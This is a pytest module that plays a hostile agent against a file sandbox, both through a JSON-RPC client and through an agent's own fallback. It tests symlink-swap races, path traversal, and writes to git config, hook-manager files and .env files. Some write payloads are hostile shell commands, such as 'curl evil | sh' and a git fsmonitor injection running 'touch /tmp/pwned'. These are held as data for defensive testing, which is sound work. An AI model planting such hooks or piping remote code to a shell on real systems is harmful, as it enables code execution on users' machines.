"""A hostile agent against the file sandbox, in both roles: the client's fs/* and the agent's fallback.

Every test runs twice (see ``roles.py``): through a real ToolkitClient over JSON-RPC and
through an agent Turn reading its own disk with ``fallback=True``. Real files, real
symbolic links, a real thread racing the calls.
"""

# Fixtures, assertions and the attacking thread touch real files synchronously on purpose.

from __future__ import annotations

import asyncio
import collections
import contextlib
import os
import stat
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from waiting import TIMEOUT

from acpwire.protocol.errors import ErrorCode, RequestError
from acpwire.sandbox import DEFAULT_MAX_READ_BYTES, DEFAULT_MAX_SCAN_BYTES
from acpwire.testing import SchemaValidator

from .roles import ROLES, Files, files_for, refused

SECRET = "OUTSIDE-SECRET"

pytestmark = pytest.mark.parametrize("role", ROLES)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    (root / "dir").mkdir(parents=True)
    (root / "dir" / "file.txt").write_text("inside\n")
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    other = tmp_path / "outside"
    other.mkdir()
    (other / "file.txt").write_text(f"{SECRET}\n")
    return other


def tree(folder: Path) -> dict[str, bytes | None]:
    """Every entry below ``folder``: file contents, ``None`` for folders and links."""
    found: dict[str, bytes | None] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            rel = str(path.relative_to(folder))
            found[rel] = None if path.is_dir() or path.is_symlink() else path.read_bytes()
    return found


def temp_files(folder: Path) -> list[str]:
    return [rel for rel in tree(folder) if rel.endswith(".tmp")]


def reason(error: RequestError) -> str:
    data = error.data if isinstance(error.data, dict) else {}
    return str(data.get("reason", data.get("errno", ErrorCode(error.code).name)))


# ---------------------------------------------------------------------------- the race


class FolderSwapper:
    """Swaps ``workspace/dir`` for a symbolic link to ``outside`` and back, as fast as it can.

    When a write recreates ``dir`` while it is briefly missing, that folder is moved
    aside (it is inside the workspace) so the swapping goes on.
    """

    def __init__(self, workspace: Path, outside: Path) -> None:
        self.folder, self.held = workspace / "dir", workspace / "held"
        self.workspace, self.outside = workspace, outside
        self.swaps = 0
        self.error: BaseException | None = None
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="folder-swapper", daemon=True)
        self._aside = 0

    def _move_aside(self) -> None:
        self._aside += 1
        os.rename(self.folder, self.workspace / f"recreated-{self._aside}")

    def _run(self) -> None:
        try:
            while not self._stop.is_set():
                os.rename(self.folder, self.held)
                while True:
                    try:
                        os.symlink(self.outside, self.folder)
                        break
                    except FileExistsError:
                        self._move_aside()
                self.swaps += 1
                os.unlink(self.folder)
                while True:
                    try:
                        os.rename(self.held, self.folder)
                        break
                    except OSError:
                        self._move_aside()
        except BaseException as exc:  # reported by stop()
            self.error = exc

    def __enter__(self) -> FolderSwapper:
        self._thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._stop.set()
        self._thread.join(TIMEOUT)
        assert not self._thread.is_alive(), "the swapping thread did not stop"
        assert self.error is None, f"the swapping thread failed: {self.error!r}"


RACE_WORKERS = 4
RACE_ROUNDS = 250
"""Each worker reads once and writes twice per round: 3,000 calls in all per role."""


@pytest.mark.slow
async def test_swapping_a_folder_for_a_symlink_mid_call_never_escapes(
    role: str, workspace: Path, outside: Path, tmp_path: Path
) -> None:
    before = tree(outside)
    outcomes: collections.Counter[str] = collections.Counter()
    contents: collections.Counter[str] = collections.Counter()

    async def attack(files: Files, worker: int) -> None:
        target = workspace / "dir"
        for n in range(RACE_ROUNDS):
            calls = [
                files.read(str(target / "file.txt")),
                files.write(str(target / f"new-{worker}-{n}.txt"), "planted\n"),
                files.write(str(target / "sub" / f"deep-{worker}-{n}.txt"), "planted\n"),
            ]
            for call in calls:
                try:
                    result = await call
                except RequestError as exc:
                    outcomes[reason(exc)] += 1
                else:
                    outcomes["ok"] += 1
                    if isinstance(result, str):
                        contents[result] += 1

    async with files_for(role, workspace) as files:
        with FolderSwapper(workspace, outside) as swapper:
            await asyncio.gather(*(attack(files, w) for w in range(RACE_WORKERS)))

    assert SECRET not in "".join(contents), f"outside content returned: {contents}"
    assert set(contents) <= {"inside\n"}
    assert tree(outside) == before, "something was created or changed outside the workspace"
    assert temp_files(tmp_path) == []
    # The race was really run: the folder was swapped, some calls met the link, others succeeded.
    assert swapper.swaps > 100
    assert outcomes["ok"] > 0
    assert outcomes["outside_workspace"] + outcomes["path_changed"] > 0, outcomes
    assert set(outcomes) <= {
        "ok",
        "outside_workspace",  # resolution saw the link
        "path_changed",  # the link appeared between resolution and open
        "RESOURCE_NOT_FOUND",  # read while the folder was briefly missing
        "parent_not_directory",  # write while a folder was briefly a link (ENOTDIR)
    }, outcomes


# ---------------------------------------------------------------------------- what held


async def test_dotdot_out_of_the_workspace_is_refused_and_creates_nothing(
    role: str, workspace: Path, outside: Path, schema_validator: SchemaValidator
) -> None:
    before = tree(outside)
    async with files_for(role, workspace, schema_validator) as files:
        error = await refused(files.read(f"{workspace}/../outside/file.txt"))
        assert error.code == ErrorCode.INVALID_PARAMS
        assert reason(error) == "outside_workspace"
        error = await refused(files.write(f"{workspace}/new/../../outside/planted.txt", "x"))
        assert reason(error) == "outside_workspace"
    assert tree(outside) == before
    assert not (workspace / "new").exists()


async def test_absolute_path_outside_is_refused_whether_or_not_it_exists(
    role: str, workspace: Path, outside: Path
) -> None:
    async with files_for(role, workspace) as files:
        for path in (outside / "file.txt", outside / "missing.txt", Path("/etc/hostname")):
            assert reason(await refused(files.read(str(path)))) == "outside_workspace"
        error = await refused(files.write(str(outside / "planted.txt"), "x"))
        assert reason(error) == "outside_workspace"
    assert not (outside / "planted.txt").exists()


async def test_symlinks_pointing_out_are_refused_for_reads_and_writes(
    role: str, workspace: Path, outside: Path
) -> None:
    (workspace / "file-link.txt").symlink_to(outside / "file.txt")
    (workspace / "dir-link").symlink_to(outside, target_is_directory=True)
    (workspace / "dangling.txt").symlink_to(outside / "planted.txt")
    before = tree(outside)
    async with files_for(role, workspace) as files:
        for path in ("file-link.txt", "dir-link/file.txt"):
            assert reason(await refused(files.read(str(workspace / path)))) == "outside_workspace"
        for path in ("file-link.txt", "dir-link/new/planted.txt", "dangling.txt"):
            error = await refused(files.write(str(workspace / path), "pwned"))
            assert reason(error) == "outside_workspace"
    assert tree(outside) == before
    assert (workspace / "file-link.txt").is_symlink()


async def test_links_to_proc_and_devices_are_refused(role: str, workspace: Path) -> None:
    (workspace / "environ").symlink_to("/proc/self/environ")
    (workspace / "root").symlink_to("/proc/self/root", target_is_directory=True)
    (workspace / "zero").symlink_to("/dev/zero")
    async with files_for(role, workspace) as files:
        for path in ("environ", "root/etc/hostname", "zero"):
            error = await refused(files.read(str(workspace / path)))
            assert reason(error) == "outside_workspace", path
        assert reason(await refused(files.write(str(workspace / "zero"), "x"))) == (
            "outside_workspace"
        )


async def test_a_fifo_is_refused_without_hanging(role: str, workspace: Path) -> None:
    os.mkfifo(workspace / "pipe")
    async with files_for(role, workspace) as files:
        error = await refused(files.read(str(workspace / "pipe")))
        assert reason(error) == "not_regular_file"
        error = await refused(files.write(str(workspace / "pipe"), "x"))
        assert reason(error) == "not_regular_file"


async def test_an_oversize_file_is_refused_whole_but_readable_in_part(
    role: str, workspace: Path
) -> None:
    big = workspace / "big.txt"
    with big.open("wb") as f:
        f.write(b"first line\n")
        f.truncate(DEFAULT_MAX_READ_BYTES + 1)  # sparse: no need to write 32 MiB
    async with files_for(role, workspace) as files:
        error = await refused(files.read(str(big)))
        assert reason(error) == "too_large"
        assert error.data["size"] == DEFAULT_MAX_READ_BYTES + 1
        assert await files.read(str(big), line=1, limit=1) == "first line\n"


async def test_a_file_that_is_not_utf8_is_refused(role: str, workspace: Path) -> None:
    (workspace / "latin1.txt").write_bytes("caf\u00e9\n".encode("latin-1"))
    async with files_for(role, workspace) as files:
        assert reason(await refused(files.read(str(workspace / "latin1.txt")))) == "not_utf8"


# ---------------------------------------------------------------------------- protected paths


@pytest.fixture
def repository(workspace: Path) -> Path:
    git = workspace / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n\tbare = false\n")
    (workspace / "sub" / ".hg").mkdir(parents=True)
    return workspace


async def test_writing_git_config_is_refused_and_the_file_is_unchanged(
    role: str, repository: Path
) -> None:
    config = repository / ".git" / "config"
    before = config.read_bytes()
    (repository / "innocent.txt").symlink_to(config)
    async with files_for(role, repository) as files:
        attempts = [
            ".git/config",
            ".GIT/config",  # refused on case-sensitive systems too: no harm, one rule
            ".git/hooks/pre-commit",
            "sub/.hg/hgrc",
            "innocent.txt",  # a link inside pointing at .git/config
        ]
        for path in attempts:
            payload = '[core]\n\tfsmonitor = "touch /tmp/pwned"\n'
            error = await refused(files.write(str(repository / path), payload))
            assert error.code == ErrorCode.INVALID_PARAMS
            assert reason(error) == "protected_path", path
        # Reading stays allowed.
        assert await files.read(str(config)) == before.decode()
    assert config.read_bytes() == before
    assert not (repository / ".git" / "hooks" / "pre-commit").exists()
    assert not (repository / "sub" / ".hg" / "hgrc").exists()


@pytest.mark.parametrize(
    "path",
    [
        ".husky/pre-commit",  # husky's hook scripts
        ".husky/_/husky.sh",
        ".githooks/pre-push",
        ".git-hooks/pre_commit/check.rb",  # overcommit's own hooks
        ".overcommit.yml",
        ".pre-commit-config.yaml",  # a "repo: local" hook runs any command on commit
        "lefthook.yml",
        ".lefthook.yml",
        "lefthook-local.yml",
        ".lefthook/pre-commit/run.sh",
        ".envrc",  # direnv: the shell sources it on cd
        "packages/web/.envrc",  # at any depth
        ".env.leave",  # autoenv: run on leaving the folder
        ".autoenv.zsh",  # zsh-autoenv
    ],
)
async def test_hook_managers_and_folder_scripts_are_never_written(
    role: str, workspace: Path, path: str
) -> None:
    async with files_for(role, workspace) as files:
        error = await refused(files.write(str(workspace / path), "#!/bin/sh\ncurl evil | sh\n"))
        assert error.code == ErrorCode.INVALID_PARAMS
        assert reason(error) == "protected_path"
    assert not (workspace / path).exists()


# ---------------------------------------------------------------------------- needs permission
# Without anyone to say yes (the agent's fallback; a client whose permission policy is
# the default RejectAll) these writes are refused. test_toolkit_sandbox.py has the yes.


@contextlib.contextmanager
def umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


async def test_a_write_never_creates_an_executable_file(role: str, workspace: Path) -> None:
    """Even with a umask that takes nothing away and a shebang in the text."""
    with umask(0):
        async with files_for(role, workspace) as files:
            await files.write(str(workspace / "run.sh"), "#!/bin/sh\necho hi\n")
            await files.write(str(workspace / "bin" / "tool"), "#!/usr/bin/env python3\n")
    for made in (workspace / "run.sh", workspace / "bin" / "tool"):
        assert stat.S_IMODE(made.stat().st_mode) == 0o666, made
        assert not os.access(made, os.X_OK)


async def test_overwriting_an_executable_file_needs_permission(role: str, workspace: Path) -> None:
    script = workspace / "build.sh"
    script.write_text("#!/bin/sh\nmake\n")
    script.chmod(0o755)
    async with files_for(role, workspace) as files:
        error = await refused(files.write(str(script), "#!/bin/sh\ncurl evil | sh\n"))
        assert error.code == ErrorCode.INVALID_PARAMS
        assert error.data == {
            "path": str(script),
            "reason": "needs_permission",
            "concern": "executable",
        }
        await files.write(str(workspace / "notes.txt"), "plain files are fine\n")
    assert script.read_text() == "#!/bin/sh\nmake\n"
    assert temp_files(workspace) == []


async def test_dotenv_needs_permission(role: str, workspace: Path) -> None:
    """autoenv sources .env on cd; direnv's dotenv loads it. mise runs its config's hooks."""
    (workspace / ".env").write_text("DEBUG=0\n")
    async with files_for(role, workspace) as files:
        for path in (".env", "service/.env", "mise.toml", ".mise.toml"):
            error = await refused(files.write(str(workspace / path), "echo pwned\n"))
            assert reason(error) == "needs_permission", path
            assert error.data["concern"] == "sensitive_file"
        assert await files.read(str(workspace / ".env")) == "DEBUG=0\n"
        await files.write(str(workspace / ".env.example"), "DEBUG=\n")
    assert (workspace / ".env").read_text() == "DEBUG=0\n"
    assert not (workspace / "service").exists()


# ---------------------------------------------------------------------------- bounded line reads


def bytes_read_by_this_process() -> int | None:
    """``rchar`` of /proc/self/io: every byte this process read so far (Linux)."""
    try:
        text = Path("/proc/self/io").read_text()
    except OSError:
        return None
    return next(int(ln.split()[1]) for ln in text.splitlines() if ln.startswith("rchar:"))


SPARSE_SIZE = 2 * 1024**3


async def test_a_line_read_of_a_huge_sparse_file_is_refused_after_bounded_work(
    role: str, workspace: Path
) -> None:
    """The reported case: ``line=2`` of a 2 GiB file without a newline read all of it
    (seconds of client CPU per call). Now it looks through ``max_scan_bytes`` and stops."""
    sparse = workspace / "sparse.bin"
    with sparse.open("wb") as f:
        f.truncate(SPARSE_SIZE)  # costs no disk
    async with files_for(role, workspace) as files:
        before = bytes_read_by_this_process()
        for line in (2, 1_000_000):
            error = await refused(files.read(str(sparse), line=line, limit=1))
            assert error.code == ErrorCode.INVALID_PARAMS
            assert error.data == {
                "path": str(sparse),
                "reason": "line_out_of_reach",
                "line": line,
                "maxScanBytes": DEFAULT_MAX_SCAN_BYTES,
            }
            assert "line" in error.message and "not served" in error.message
        # The first line is refused as too large once it outgrows max_read_bytes.
        error = await refused(files.read(str(sparse), line=1, limit=1))
        assert reason(error) == "too_large"
        after = bytes_read_by_this_process()
    if before is not None and after is not None:
        # Two scans and one oversized line: about 160 MiB, not 6 GiB.
        bound = 2 * (DEFAULT_MAX_SCAN_BYTES + 2**20) + DEFAULT_MAX_READ_BYTES + 2**20
        assert after - before <= bound


async def test_lines_within_the_scan_bound_are_served_from_a_huge_file(
    role: str, workspace: Path
) -> None:
    big = workspace / "big.log"
    with big.open("wb") as f:
        f.write(b"first\nsecond\nthird\n")
        f.truncate(SPARSE_SIZE)
    async with files_for(role, workspace) as files:
        assert await files.read(str(big), line=2, limit=2) == "second\nthird\n"
